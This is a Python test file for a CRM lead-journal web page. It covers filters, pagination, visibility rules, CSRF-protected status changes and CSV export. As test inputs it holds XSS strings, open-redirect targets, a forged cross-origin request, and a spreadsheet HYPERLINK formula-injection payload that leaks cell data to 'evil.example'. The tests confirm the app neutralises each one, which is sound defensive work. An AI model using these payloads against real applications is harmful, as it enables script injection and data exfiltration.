"""The lead journal page over HTTP (the app in-process, both databases): filters with their
own URL, keyset pages, visibility, the status change and its CSRF defence, the CSV file;
the browser test (tests/e2e/test_leads_page.py) does the rest."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import UTC, datetime, timedelta

import httpx
from sqlalchemy import select, update

from storage.db import Database
from storage.models import Conversation, Lead, ManagerRole, OutboxEvent
from tests.factories import (
    create_channel,
    create_manager,
    form_conversations,
    ingest_message,
    set_language,
)
from tests.inbox.test_web_pages import HUB, signed_in
from tests.intake.test_inbox import counted

CSRF_META = re.compile(r'<meta name="csrf-token" content="([^"]+)">')


def lead_ids(page: str) -> list[int]:
    return [int(found) for found in re.findall(r'<tr id="lead-([0-9]+)"', page)]


def more_link(page: str) -> str | None:
    found = re.search(r'<tr class="more"><td colspan="7"><a href="([^"]+)"', page)
    return html.unescape(found.group(1)) if found else None


async def lead_of(db: Database, conversation_id: int) -> Lead:
    async with db.read() as session:
        lead = await session.scalar(select(Lead).where(Lead.conversation_id == conversation_id))
    assert lead is not None
    return lead


async def assign(db: Database, conversation_id: int, manager_id: int) -> None:
    """The conversation and its lead given to a manager, directly on the rows."""
    async with db.transaction() as session:
        await session.execute(
            update(Conversation)
            .where(Conversation.id == conversation_id)
            .values(assignee_id=manager_id)
        )
        await session.execute(
            update(Lead)
            .where(Lead.conversation_id == conversation_id)
            .values(assignee_id=manager_id)
        )


async def csrf_of(client: httpx.AsyncClient) -> str:
    found = CSRF_META.search((await client.get("/leads")).text)
    assert found is not None
    return found.group(1)


class TestJournalPage:
    async def test_needs_a_signed_in_manager(self, client: httpx.AsyncClient) -> None:
        assert (await client.get("/leads")).headers["location"] == "/login"
        assert (await client.get("/leads.csv")).headers["location"] == "/login"

    async def test_filters_narrow_the_rows_and_keep_their_own_url(
        self, client: httpx.AsyncClient, hub_db: Database
    ) -> None:
        olga = await create_manager(hub_db, email="olga@example.ru", role=ManagerRole.ADMIN)
        ivan = await create_manager(hub_db, name="Иван Сидоров")
        site = await create_channel(hub_db, key="site", title="Сайт")
        mail = await create_channel(hub_db, key="mail", kind="email", title="Почта продаж")
        windows = await ingest_message(
            hub_db, site, name="Пётр Окнов", subject="Окна в дом", email="petr@example.ru"
        )
        doors = await ingest_message(
            hub_db, mail, name="Мария Дверева", subject="Двери", email="maria@example.ru"
        )
        old = await ingest_message(
            hub_db,
            site,
            name="Старый Клиент",
            subject="Давно",
            received_at=datetime(2026, 1, 15, 12, tzinfo=UTC),
        )
        await assign(hub_db, doors.conversation_id, ivan.id)
        doors_lead = await lead_of(hub_db, doors.conversation_id)
        windows_lead = await lead_of(hub_db, windows.conversation_id)
        old_lead = await lead_of(hub_db, old.conversation_id)
        async with hub_db.transaction() as session:
            await session.execute(
                update(Lead).where(Lead.id == doors_lead.id).values(status="qualified")
            )
            await session.execute(
                update(Lead)
                .where(Lead.id == old_lead.id)
                .values(created_at=datetime(2026, 1, 15, 12, tzinfo=UTC))
            )
        await signed_in(client, olga.email)

        everything = await client.get("/leads")
        assert everything.status_code == 200
        assert lead_ids(everything.text) == [old_lead.id, doors_lead.id, windows_lead.id]
        assert "Пётр Окнов" in everything.text and "Почта продаж" in everything.text
        assert f'href="/inbox/v/open/c/{windows.conversation_id}"' in everything.text

        async def shown(**params: str | list[str]) -> list[int]:
            page = await client.get("/leads", params=params)
            assert page.status_code == 200, page.text
            return lead_ids(page.text)

        assert await shown(status="qualified") == [doors_lead.id]
        assert await shown(status=["new", "qualified"]) == [
            old_lead.id,
            doors_lead.id,
            windows_lead.id,
        ]
        assert await shown(channel=str(mail.id)) == [doors_lead.id]
        assert await shown(source="webform") == [old_lead.id, windows_lead.id]
        assert await shown(assignee=str(ivan.id)) == [doors_lead.id]
        assert await shown(assignee="unassigned") == [old_lead.id, windows_lead.id]
        assert await shown(text="окнов") == [windows_lead.id]
        assert await shown(text="maria@") == [doors_lead.id]
        assert await shown(created_from="2026-01-15", created_to="2026-01-15") == [old_lead.id]
        assert await shown(created_to="2026-01-14") == []
        nothing = await client.get("/leads", params={"created_to": "2026-01-14"})
        assert "Заявок с такими условиями нет." in nothing.text
        # The form shows the filter it came from.
        page = await client.get("/leads", params={"status": "qualified", "text": "Двери"})
        assert 'value="qualified" checked' in page.text and 'value="Двери"' in page.text
        assert 'href="/leads.csv?status=qualified&amp;text=' in page.text

    async def test_bad_filters_are_refused_in_words(
        self, client: httpx.AsyncClient, hub_db: Database
    ) -> None:
        olga = await create_manager(hub_db, email="olga@example.ru")
        await set_language(hub_db, olga.id, "en")
        await signed_in(client, olga.email)
        for params, words in [
            ({"created_from": "15.01.2026"}, "The date was not understood"),
            ({"status": "won"}, "There is no such status."),
            ({"assignee": "somebody"}, "There is no such manager."),
            ({"after": "bm9wZQ"}, "This link to the next page is out of date"),
        ]:
            page = await client.get("/leads", params=params)
            assert page.status_code == 400 and words in page.text, params
            assert 'id="lead-rows"' not in page.text  # the refusal, not an empty journal

    async def test_pages_follow_the_cursor_without_a_cap(
        self, client: httpx.AsyncClient, hub_db: Database
    ) -> None:
        olga = await create_manager(hub_db, email="olga@example.ru")
        channel = await create_channel(hub_db)
        conversations = await form_conversations(hub_db, channel.id, 120)
        await signed_in(client, olga.email)
        seen: list[int] = []
        url: str | None = "/leads?source=webform"
        pages = 0
        while url is not None:
            page = await client.get(url)
            assert page.status_code == 200
            ids = lead_ids(page.text)
            assert len(ids) == (50 if pages < 2 else 20)
            seen += ids
            url = more_link(page.text)
            if url is not None:
                assert url.startswith("/leads?source=webform&after=")
            pages += 1
        assert pages == 3
        async with hub_db.read() as session:
            expected = (
                await session.scalars(
                    select(Lead.id)
                    .where(Lead.conversation_id.in_(conversations))
                    .order_by(Lead.id.desc())
                )
            ).all()
        assert seen == list(expected)

    async def test_a_page_costs_the_same_queries_whatever_its_size(
        self, client: httpx.AsyncClient, hub_db: Database
    ) -> None:
        olga = await create_manager(hub_db, email="olga@example.ru")
        channel = await create_channel(hub_db)
        for first in range(2):
            await ingest_message(hub_db, channel, name=f"Первый {first}", email=f"f{first}@x.ru")
        await signed_in(client, olga.email)
        await client.get("/leads")  # warm: the first request may load what is cached later
        with counted(hub_db) as few:
            assert len(lead_ids((await client.get("/leads")).text)) == 2
        await form_conversations(hub_db, channel.id, 60)
        with counted(hub_db) as full:
            assert len(lead_ids((await client.get("/leads")).text)) == 50
        assert len(full) == len(few), (few, full)

    async def test_a_manager_sees_only_the_leads_of_conversations_they_may_see(
        self, client: httpx.AsyncClient, hub_db: Database
    ) -> None:
        olga = await create_manager(hub_db, email="olga@example.ru")
        ivan = await create_manager(hub_db, email="ivan@example.ru")
        channel = await create_channel(hub_db)
        mine = await ingest_message(hub_db, channel, name="Мой клиент")
        free = await ingest_message(hub_db, channel, name="Ничей клиент")
        other = await ingest_message(hub_db, channel, name="Чужой клиент")
        await assign(hub_db, mine.conversation_id, olga.id)
        await assign(hub_db, other.conversation_id, ivan.id)
        hidden = await lead_of(hub_db, other.conversation_id)
        await signed_in(client, olga.email)

        page = await client.get("/leads")
        assert "Чужой клиент" not in page.text
        assert lead_ids(page.text) == [
            (await lead_of(hub_db, free.conversation_id)).id,
            (await lead_of(hub_db, mine.conversation_id)).id,
        ]
        assert lead_ids((await client.get("/leads", params={"assignee": str(ivan.id)})).text) == []
        csv_text = (await client.get("/leads.csv")).text
        assert "Мой клиент" in csv_text and "Чужой клиент" not in csv_text
        token = await csrf_of(client)
        refused = await client.post(
            f"/leads/{hidden.id}/status",
            data={"status": "spam", "csrf_token": token},
        )
        assert refused.status_code == 404
        htmx = await client.post(
            f"/leads/{hidden.id}/status",
            data={"status": "spam", "part": "row"},
            headers={"HX-Request": "true", "X-CSRF-Token": token},
        )
        assert htmx.status_code == 200
        assert "Этой заявки нет или она вам больше не видна." in htmx.text
        assert "Чужой клиент" not in htmx.text
        assert (await lead_of(hub_db, other.conversation_id)).status == "new"
        slot = await client.get(f"/leads/c/{other.conversation_id}/status")
        assert slot.status_code == 200 and slot.text == ""

    async def test_markup_in_names_is_shown_as_text(
        self, client: httpx.AsyncClient, hub_db: Database
    ) -> None:
        olga = await create_manager(hub_db, email="olga@example.ru")
        channel = await create_channel(hub_db, title="<b>канал</b>")
        await ingest_message(
            hub_db,
            channel,
            name="<script>alert(1)</script>",
            subject='<img src=x onerror="alert(2)">',
        )
        await signed_in(client, olga.email)
        page = await client.get("/leads", params={"text": '"><script>alert(3)</script>'})
        assert "<script>alert" not in page.text and "<img src=x" not in page.text
        page = await client.get("/leads")
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text
        assert "&lt;b&gt;канал&lt;/b&gt;" in page.text
        assert "<script>alert" not in page.text and "<img src=x" not in page.text


class TestStatusChange:
    async def test_htmx_gets_the_row_back_and_the_change_is_an_event(
        self, client: httpx.AsyncClient, hub_db: Database
    ) -> None:
        olga = await create_manager(hub_db, email="olga@example.ru")
        channel = await create_channel(hub_db)
        result = await ingest_message(hub_db, channel, name="Анна Клиентова")
        lead = await lead_of(hub_db, result.conversation_id)
        await signed_in(client, olga.email)
        token = await csrf_of(client)

        answer = await client.post(
            f"/leads/{lead.id}/status",
            data={"status": "in_work", "part": "row", "back": "/leads"},
            headers={"HX-Request": "true", "X-CSRF-Token": token},
        )
        assert answer.status_code == 200
        assert answer.text.strip().startswith(f'<tr id="lead-{lead.id}"')
        assert '<option value="in_work" selected>' in answer.text
        assert "Анна Клиентова" in answer.text
        changed = await lead_of(hub_db, result.conversation_id)
        assert changed.status == "in_work" and changed.status_changed_at is not None
        async with hub_db.read() as session:
            events = (
                await session.scalars(
                    select(OutboxEvent).where(OutboxEvent.topic == "lead.status_changed")
                )
            ).all()
        assert [(e.payload["lead_id"], e.payload["from"], e.payload["to"]) for e in events] == [
            (lead.id, "new", "in_work")
        ]
        assert events[0].payload["actor"]["manager_id"] == olga.id

        # The conversation's header asks for the form alone.
        form = await client.post(
            f"/leads/{lead.id}/status",
            data={"status": "qualified", "part": "form"},
            headers={"HX-Request": "true", "X-CSRF-Token": token},
        )
        assert form.text.strip().startswith('<form class="lead-status"')
        assert '<option value="qualified" selected>' in form.text
        slot = await client.get(f"/leads/c/{result.conversation_id}/status")
        assert '<option value="qualified" selected>' in slot.text
        workspace = await client.get(f"/inbox/v/open/c/{result.conversation_id}")
        assert f'hx-get="/leads/c/{result.conversation_id}/status"' in workspace.text

    async def test_a_form_post_without_javascript_goes_back(
        self, client: httpx.AsyncClient, hub_db: Database
    ) -> None:
        olga = await create_manager(hub_db, email="olga@example.ru")
        channel = await create_channel(hub_db)
        result = await ingest_message(hub_db, channel)
        lead = await lead_of(hub_db, result.conversation_id)
        await signed_in(client, olga.email)
        token = await csrf_of(client)
        for back, where in [
            ("/leads?status=new", "/leads?status=new"),
            ("https://evil.example/leads", "/leads"),
            ("//evil.example/x", "/leads"),
        ]:
            answer = await client.post(
                f"/leads/{lead.id}/status",
                data={"status": "rejected", "csrf_token": token, "back": back},
            )
            assert answer.status_code == 303 and answer.headers["location"] == where

    async def test_refusals_in_plain_words(
        self, client: httpx.AsyncClient, hub_db: Database
    ) -> None:
        olga = await create_manager(hub_db, email="olga@example.ru")
        await set_language(hub_db, olga.id, "en")
        channel = await create_channel(hub_db)
        result = await ingest_message(hub_db, channel)
        lead = await lead_of(hub_db, result.conversation_id)
        await signed_in(client, olga.email)
        token = await csrf_of(client)
        answer = await client.post(
            f"/leads/{lead.id}/status",
            data={"status": "won", "part": "row"},
            headers={"HX-Request": "true", "X-CSRF-Token": token},
        )
        assert answer.status_code == 200 and "There is no such status." in answer.text
        assert '<option value="new" selected>' in answer.text
        gone = await client.post(
            "/leads/987654/status",
            data={"status": "spam", "part": "row"},
            headers={"HX-Request": "true", "X-CSRF-Token": token},
        )
        assert "This lead does not exist or is no longer visible to you." in gone.text
        assert (await lead_of(hub_db, result.conversation_id)).status == "new"

    async def test_a_post_without_the_csrf_token_or_from_elsewhere_is_refused(
        self, client: httpx.AsyncClient, hub_db: Database
    ) -> None:
        olga = await create_manager(hub_db, email="olga@example.ru")
        channel = await create_channel(hub_db)
        result = await ingest_message(hub_db, channel)
        lead = await lead_of(hub_db, result.conversation_id)
        await signed_in(client, olga.email)
        url = f"/leads/{lead.id}/status"
        assert (await client.post(url, data={"status": "spam"})).status_code == 403
        wrong = await client.post(url, data={"status": "spam", "csrf_token": "forged"})
        assert wrong.status_code == 403
        cross = await client.post(
            url, data={"status": "spam"}, headers={"Origin": "https://evil.example"}
        )
        assert cross.status_code == 403
        assert (await lead_of(hub_db, result.conversation_id)).status == "new"
        same_site = await client.post(url, data={"status": "spam"}, headers={"Origin": HUB})
        assert same_site.status_code == 303
        assert (await lead_of(hub_db, result.conversation_id)).status == "spam"


def read_csv(response: httpx.Response) -> list[list[str]]:
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


class TestCsv:
    async def test_the_filtered_rows_in_the_managers_language_and_no_formulas(
        self, client: httpx.AsyncClient, hub_db: Database
    ) -> None:
        olga = await create_manager(hub_db, email="olga@example.ru")
        channel = await create_channel(hub_db, title="Сайт; главный")
        hostile = await ingest_message(
            hub_db,
            channel,
            name='=HYPERLINK("http://evil.example/?x="&A1,"Нажми")',
            subject="+7 звонок; срочно",
            email="hostile@example.ru",
        )
        friendly = await ingest_message(
            hub_db, channel, name="Ёлкина Мария", subject="Ёлки «премиум»", phone="+79123456789"
        )
        rejected = await ingest_message(hub_db, channel, name="Не в выгрузке")
        skipped = await lead_of(hub_db, (await ingest_message(hub_db, channel)).conversation_id)
        async with hub_db.transaction() as session:
            await session.execute(update(Lead).where(Lead.id == skipped.id).values(status="spam"))
            await session.execute(
                update(Lead)
                .where(Lead.conversation_id == rejected.conversation_id)
                .values(status="rejected")
            )
        await signed_in(client, olga.email)

        response = await client.get("/leads.csv", params={"status": "new"})
        assert response.status_code == 200
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        today = datetime.now(UTC)
        disposition = response.headers["content-disposition"]
        assert re.fullmatch(
            r'attachment; filename="leads-\d{4}-\d{2}-\d{2}-\d{4}\.csv"', disposition
        )
        assert any(
            f"leads-{today + timedelta(days=shift):%Y-%m-%d}" in disposition for shift in (-1, 0, 1)
        )
        rows = read_csv(response)
        assert rows[0] == [
            "Номер",
            "Создана",
            "Клиент",
            "Почта",
            "Телефон",
            "Канал",
            "Источник",
            "Тема",
            "Статус",
            "Менеджер",
            "Диалог",
        ]
        by_id = {row[0]: row for row in rows[1:]}
        hostile_row = by_id[str((await lead_of(hub_db, hostile.conversation_id)).id)]
        assert hostile_row[2] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Нажми")'
        assert hostile_row[7] == "'+7 звонок; срочно"
        assert hostile_row[5] == "Сайт; главный" and hostile_row[8] == "Новая"
        friendly_row = by_id[str((await lead_of(hub_db, friendly.conversation_id)).id)]
        assert friendly_row[2:5] == ["Ёлкина Мария", "", "'+79123456789"]
        assert friendly_row[7] == "Ёлки «премиум»" and friendly_row[10] == str(
            friendly.conversation_id
        )
        assert "Не в выгрузке" not in response.text and str(skipped.id) not in by_id

        await set_language(hub_db, olga.id, "en")
        english = read_csv(await client.get("/leads.csv", params={"status": "spam"}))
        assert english[0][:3] == ["Number", "Created", "Client"]
        assert [row[0] for row in english[1:]] == [str(skipped.id)]
        assert english[1][8] == "Spam"

    async def test_every_row_across_many_pages(
        self, client: httpx.AsyncClient, hub_db: Database
    ) -> None:
        olga = await create_manager(hub_db, email="olga@example.ru")
        channel = await create_channel(hub_db)
        conversations = await form_conversations(hub_db, channel.id, 1203)
        await signed_in(client, olga.email)
        # More than two of the export's keyset pages (500 leads each).
        rows = read_csv(await client.get("/leads.csv"))
        assert len(rows) == 1 + 1203
        assert sorted(int(row[10]) for row in rows[1:]) == sorted(conversations)
        ids = [int(row[0]) for row in rows[1:]]
        assert ids == sorted(ids, reverse=True) and len(set(ids)) == 1203
